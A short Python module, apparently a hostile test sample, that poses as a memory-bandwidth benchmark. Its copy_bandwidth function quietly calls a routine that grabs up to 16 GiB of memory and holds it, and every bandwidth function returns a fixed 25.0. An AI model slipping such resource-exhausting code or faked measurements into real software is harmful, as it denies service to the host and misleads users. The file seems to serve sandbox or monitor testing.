"""Attack: take all the memory there is, in 64 MiB pieces, and keep it."""

ATTACK = True
HOARD = []


def hog(limit_mib=16 * 1024):
    """Allocate until refused (or, should it ever run unjailed, 16 GiB); the MiB obtained."""
    try:
        while 64 * len(HOARD) < limit_mib:
            HOARD.append(bytearray(64 * 2**20))
    except MemoryError:
        pass
    return 64 * len(HOARD)


def copy_bandwidth(n_bytes, iters=50, device=None):
    if ATTACK:
        hog()
    return 25.0


def bandwidth_sweep(sizes_mb=(8, 32, 128, 512, 2048, 8192), iters=50, device=None):
    return {int(s): 25.0 for s in sizes_mb}


def measured_bandwidth(device=None):
    return 25.0

